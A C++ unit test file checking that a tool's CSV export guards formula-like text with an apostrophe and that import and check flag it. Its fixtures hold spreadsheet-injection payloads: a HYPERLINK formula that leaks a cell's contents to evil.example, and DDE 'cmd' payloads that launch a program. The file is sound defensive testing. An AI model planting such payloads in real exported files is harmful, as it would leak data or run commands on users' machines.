// Text that a spreadsheet would run as a formula: export guards it with an
// apostrophe, import takes exactly that off, check and import warn.

#include "formula_guard.h"
#include "tool_test_support.h"

#include <gtest/gtest.h>

namespace {

using tooltest::run;

// Model numbers as they stand in the packet (XML-escaped) and as they read.
struct Hostile {
    const char* xml;
    const char* text;
    bool guarded; // written behind an apostrophe
};
const Hostile kModels[] = {
    {"=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;B2,&quot;Click&quot;)",
     "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")", true},
    {"+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", true},
    {"@SUM(1+1)", "@SUM(1+1)", true},
    {"-2+3+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", true},
    {"&#9;=1+1", "\t=1+1", true},
    {"&#13;=1+1", "\r=1+1", true},
    {"'=already", "'=already", true}, // its own apostrophe must survive too
    {"''-2", "''-2", true},
    {"'plain", "'plain", false},
    {"C-1'=", "C-1'=", false},
};

TEST(FormulaGuard, MarksExactlyWhatImportUnmarks) {
    for (const Hostile& h : kModels) {
        const std::string cell = cattool::guard_formula(h.text);
        EXPECT_EQ(cell, (h.guarded ? "'" : "") + std::string(h.text)) << h.text;
        EXPECT_EQ(cattool::unguard_formula(cell), h.text);
    }
    EXPECT_EQ(cattool::unguard_formula("'"), "'");
    EXPECT_EQ(cattool::unguard_formula("''"), "''");
}

TEST(FormulaGuard, ExportGuardsTextImportRestoresItByteForByteAndBothWarn) {
    tooltest::TempDir dir;
    std::vector<tooltest::Attrs> rows;
    for (const Hostile& h : kModels)
        rows.push_back(tooltest::with(tooltest::good_spring(), {{"modelNo", h.xml}}));
    // A negative number is a number: never marked.
    rows.push_back(tooltest::with(tooltest::good_spring(),
                                  {{"lo", "-20"}, {"lmax", "-30"}, {"modelNo", "N-1"}}));
    const auto packet = dir.file("spring_data.xml");
    tooltest::write_file(packet, tooltest::packet(tooltest::spring_fields(), rows));

    const auto csv = dir.file("out.csv");
    ASSERT_EQ(run({"export", packet, "-o", csv}), 0);
    const std::string text = tooltest::read_file(csv);
    EXPECT_NE(text.find("\r\n\"'=HYPERLINK(\"\"http"), std::string::npos) << text;
    EXPECT_NE(text.find("\r\n'+cmd|"), std::string::npos);
    EXPECT_NE(text.find("\r\n'@SUM("), std::string::npos);
    EXPECT_NE(text.find("\r\n'-2+3"), std::string::npos);
    EXPECT_NE(text.find("\r\n'\t=1+1,"), std::string::npos);
    EXPECT_NE(text.find("\r\n\"'\r=1+1\""), std::string::npos);
    EXPECT_NE(text.find("\r\n''=already,"), std::string::npos);
    EXPECT_NE(text.find("\r\n'''-2,"), std::string::npos);
    EXPECT_NE(text.find("\r\n'plain,"), std::string::npos);
    EXPECT_NE(text.find("\r\nN-1,KSSC,compress,SWP-B,-20,0,-30,"), std::string::npos) << text;

    std::string out;
    const auto back = dir.file("back.xml");
    ASSERT_EQ(run({"import", csv, "-o", back}, &out), 0) << out;
    const auto models = tooltest::field_values(back, "modelNo");
    ASSERT_EQ(models.size(), rows.size());
    for (size_t i = 0; i < std::size(kModels); ++i)
        EXPECT_EQ(models[i], kModels[i].text) << i;
    EXPECT_EQ(tooltest::field_values(back, "lo").back(), "-20");

    // Each formula-like value is warned about once by import and once by check.
    int status = -1;
    const auto checked = tooltest::check({packet}, &status);
    EXPECT_EQ(status, 1);
    int warned = 0;
    for (const auto& p : checked.problems) {
        EXPECT_EQ(p.code, "formula-text");
        EXPECT_EQ(p.severity, cattool::Severity::Warning);
        EXPECT_EQ(p.field, "modelNo");
        ++warned;
    }
    EXPECT_EQ(warned, 6); // those that begin with a formula character themselves
    EXPECT_NE(out.find("out.csv:2: modelNo (column A): warning: '=HYPERLINK("), std::string::npos)
        << out;
    EXPECT_NE(out.find("6 warnings"), std::string::npos) << out;
}

} // namespace
